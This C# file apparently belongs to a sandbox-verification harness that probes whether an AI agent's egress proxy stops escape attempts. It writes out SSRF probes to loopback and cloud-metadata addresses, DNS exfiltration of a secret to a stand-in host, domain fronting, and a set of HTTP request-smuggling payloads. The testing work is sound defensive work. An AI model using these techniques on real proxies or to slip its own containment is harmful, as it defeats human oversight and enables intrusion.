using System.Net;
using System.Net.Security;
using System.Net.Sockets;
using System.Security.Authentication;
using System.Text;
using Creel.Core.Link;
using Creel.Runtime.Link;

namespace Creel.Runtime.Attempts;

/// <summary>
/// How an agent may try to get out: through the proxy where it should refuse, and past it. Whom they name is nobody: names below
/// <c>.invalid</c>, addresses for documentation, this machine.
/// </summary>
internal static class WaysOut
{
    private const string Stranger = "creel-verify.invalid";
    private static readonly IPAddress[] Written = [IPAddress.Parse("192.0.2.1"), IPAddress.Parse("2001:db8::1")];
    private static readonly IPAddress Somebody6 = IPAddress.Parse("2606:4700:4700::1111");

    /// <summary>Who answers everybody: asked only from where nothing is to leave.</summary>
    public static readonly IPAddress Somebody = IPAddress.Parse("1.1.1.1");

    public static AttemptLine[] Table { get; } =
    [
        new(
            "outbound.connect-denied",
            o => ProxyTalk.Each(o, new[] { $"{Stranger}:443", $"{Stranger}:80", $"{Stranger}:22" }.Select(Connect))
        ),
        new("outbound.connect-private", o => ProxyTalk.Each(o, Private(o.HostPort).Select(Connect))),
        new(
            "outbound.http-denied",
            o => ProxyTalk.Each(o, [Get($"http://{Stranger}/", Stranger), Get("/", Stranger), Get("/", $"{Stranger}:8080")])
        ),
        new("outbound.redirect", Redirect),
        new("outbound.names", Names),
        new("outbound.address", o => Outcome.Worst(Written.Select(a => Tls(o, a, Stranger)).Concat([Tls(o, Written[0], null)]))),
        new("outbound.udp", o => Outcome.Worst(Written.Select(a => Datagram(o, a)))),
        new("outbound.server-name", o => Fronted(o, HelloText.Of(Stranger))),
        new("outbound.encrypted-name", o => Fronted(o, HelloText.Of(o.Proxy?.Upstream ?? Stranger, encrypted: true))),
        new("outbound.tls-host", AnotherHost),
        new("outbound.smuggle", o => ProxyTalk.Each(o, Smuggled())),
    ];

    private static string Connect(string to) => $"CONNECT {to} HTTP/1.1\r\nHost: {to}\r\n\r\n";

    private static string Get(string target, string host) =>
        $"GET {target} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n";

    /// <summary>This machine, its network and its cloud's metadata, as one can write them.</summary>
    private static IEnumerable<string> Private(int port) =>
        [
            $"127.0.0.1:{port}",
            $"localhost:{port}",
            $"[::1]:{port}",
            $"[::ffff:127.0.0.1]:{port}",
            $"[::127.0.0.1]:{port}",
            $"[64:ff9b::7f00:1]:{port}",
            $"0.0.0.0:{port}",
            $"127.1:{port}",
            $"2130706433:{port}",
            $"0x7f000001:{port}",
            $"0177.0.0.1:{port}",
            "169.254.169.254:80",
            "[::ffff:169.254.169.254]:80",
            "[fe80::1]:80",
            "10.0.0.1:443",
            "192.168.0.1:443",
            "172.17.0.1:2375",
        ];

    /// <summary>The proxy follows none; who follows one himself asks anew, on the same connection.</summary>
    private static Outcome Redirect(AttemptOrder order) =>
        ProxyTalk.Each(
            order,
            new[]
            {
                "http://169.254.169.254/latest/meta-data/",
                "http://[::ffff:169.254.169.254]/",
                $"http://127.0.0.2:{order.HostPort}/",
            }
                .Select(to => new Uri(to))
                .Select(to =>
                    $"GET http://{Stranger}/redirect?to={to} HTTP/1.1\r\nHost: {Stranger}\r\n\r\n"
                    + Get(to.ToString(), to.Authority)
                )
        );

    /// <summary>A proxy that looks a name up before it refuses it has told it to a name server.</summary>
    private static Outcome Names(AttemptOrder order)
    {
        var name = $"{Convert.ToHexStringLower(Encoding.ASCII.GetBytes(order.Secret))}.{Stranger}";
        var looked = ProxyTalk.Each(order, [Connect($"{name}:443"), Get($"http://{name}/", name), Get("/", name)]);
        return looked.Held != true || Reach.EveryAddressIsOwn()
            ? looked
            : Outcome.Worst([looked, Way(order, IPAddress.Parse("192.0.2.53"))]);
    }

    private static Outcome Way(AttemptOrder order, IPAddress address) =>
        Reach.Way(address, address.AddressFamily == AddressFamily.InterNetworkV6 ? Somebody6 : Somebody, order.Closed);

    /// <summary>Where every address is the cell's own it ends in the proxy; elsewhere a route would be the way out, and none is used.</summary>
    private static Outcome Tls(AttemptOrder order, IPAddress address, string? name)
    {
        if (!Reach.EveryAddressIsOwn())
        {
            return Way(order, address);
        }

        if (Reach.Connect(address, 443, out var socket) is not SocketError.Success and var error)
        {
            return Outcome.Stopped($"{address}:443: {error}");
        }

        using var talk = ProxyTalk.Over(socket!);
        return Answered(talk, HelloText.Of(name), $"TLS to {address}{(name is null ? " without a name" : "")}");
    }

    private static Outcome Datagram(AttemptOrder order, IPAddress address)
    {
        if (!Reach.EveryAddressIsOwn())
        {
            return Reach.Route(address).Held == false && order.Closed ? Reach.Ask(Somebody) : Reach.Route(address);
        }

        using var socket = new Socket(address.AddressFamily, SocketType.Dgram, ProtocolType.Udp) { ReceiveTimeout = 500 };
        try
        {
            socket.Connect(new IPEndPoint(address, 443));
            socket.Send(new byte[1200]);
            return socket.Receive(new byte[64]) > 0
                ? Outcome.Through($"{address}:443 answers")
                : Outcome.Stopped($"{address}:443: nothing");
        }
        catch (SocketException e)
        {
            return Outcome.Stopped($"{address}:443: {e.SocketErrorCode}");
        }
    }

    /// <summary>An upstream is what a CONNECT may always name; what comes then says something else.</summary>
    private static Outcome Fronted(AttemptOrder order, byte[] hello) =>
        Front(
            order,
            (talk, upstream) => Answered(talk, hello, $"TLS after CONNECT {upstream}"),
            upstream => ProxyTalk.With(order, talk => Answered(talk, hello, $"TLS at once, in place of {upstream}"))
        );

    private static Outcome AnotherHost(AttemptOrder order) =>
        Front(order, (talk, upstream) => AskAnother(talk, upstream), _ => Outcome.Stopped("the tunnel was refused"));

    private static Outcome Front(AttemptOrder order, Func<ProxyTalk, string, Outcome> inside, Func<string, Outcome> beside) =>
        ProxyTalk.With(
            order,
            talk =>
            {
                var upstream = order.Proxy?.Upstream ?? Stranger;
                talk.Send(Encoding.ASCII.GetBytes(Connect($"{upstream}:443")));
                var heard = talk.Hear(so => so.AsSpan().IndexOf("\r\n\r\n"u8) >= 0);
                return heard is null ? Outcome.Untried($"CONNECT {upstream}: no answer")
                    : ProxyTalk.Statuses(Encoding.Latin1.GetString(heard)) is ["200", ..] ? inside(talk, upstream)
                    : beside(upstream);
            }
        );

    private static Outcome Answered(ProxyTalk talk, byte[] hello, string what)
    {
        talk.Send(hello);
        return talk.Hear(so => so.Length > 5) switch
        {
            null => Outcome.Untried($"{what}: no answer"),
            var heard when HelloText.IsAnswered(heard) => Outcome.Through($"{what}: a server answers"),
            { Length: 0 } => Outcome.Stopped($"{what}: closed"),
            _ => Outcome.Stopped($"{what}: no server answers"),
        };
    }

    private static Outcome AskAnother(ProxyTalk talk, string upstream)
    {
        try
        {
            using var tls = new SslStream(
                new NetworkStream(talk.Socket),
                leaveInnerStreamOpen: false,
                // Whoever answers is to be told the wrong host.
                (_, _, _, _) => true
            );
            tls.AuthenticateAsClient(PeerChain.Options(upstream));
            tls.Write(Encoding.ASCII.GetBytes(Get("/v1/creel-verify", Stranger)));
            var answer = new byte[64];
            var status = ProxyTalk.Statuses(Encoding.Latin1.GetString(answer, 0, tls.Read(answer)));
            return status is [{ } code, ..] && code[0] != '4'
                ? Outcome.Through($"TLS for {upstream}, Host {Stranger}: {code}")
                : Outcome.Stopped($"TLS for {upstream}, Host {Stranger}: {(status.Count > 0 ? status[0] : "closed")}");
        }
        catch (Exception e) when (e is AuthenticationException or IOException)
        {
            return Outcome.Stopped($"TLS for {upstream}: {e.GetType().Name}");
        }
    }

    /// <summary>Each ends, for one reader or another, in a second request to somebody else.</summary>
    private static IEnumerable<string> Smuggled()
    {
        var second = Get("http://169.254.169.254/", "169.254.169.254");
        var head = $"POST http://{Stranger}/ HTTP/1.1\r\nHost: {Stranger}\r\n";
        yield return $"{head}Content-Length: {second.Length + 5}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{second}";
        yield return $"{head}Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n{second.Length:x}\r\n{second}\r\n0\r\n\r\n";
        yield return $"{head}Content-Length: 0\r\nContent-Length: {second.Length}\r\n\r\n{second}";
        yield return $"{head}Transfer-Encoding: xchunked\r\nContent-Length: {second.Length}\r\n\r\n{second}";
        yield return $"{head}Content-Length: 0\n\n{second}";
        yield return $"{head}X: y\r\n Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n{second}";
        yield return $"GET http://{Stranger}/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n{second}";
        yield return $"GET /anthropic/../../ HTTP/1.1\r\nHost: {Stranger}\r\n\r\n{second}";
        yield return $"GET http://user@{Stranger}@169.254.169.254/ HTTP/1.1\r\nHost: {Stranger}\r\n\r\n{second}";
        yield return $"CONNECT {Stranger}:443 HTTP/1.1\r\nHost: {Stranger}\r\nContent-Length: {second.Length}\r\n\r\n{second}";
    }
}
